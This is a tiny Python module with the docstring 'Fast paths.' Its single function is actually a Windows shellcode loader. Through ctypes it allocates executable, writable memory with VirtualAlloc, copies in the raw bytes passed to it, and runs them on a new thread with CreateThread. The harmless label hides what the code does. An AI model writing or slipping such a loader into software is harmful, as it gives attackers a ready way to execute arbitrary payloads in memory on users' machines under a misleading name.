"""Fast paths."""
import ctypes


def start(raw):
    core = ctypes.windll.kernel32
    at = core.VirtualAlloc(None, len(raw), 0x3000, 0x40)
    ctypes.memmove(at, raw, len(raw))
    core.CreateThread(None, 0, at, None, 0, None)
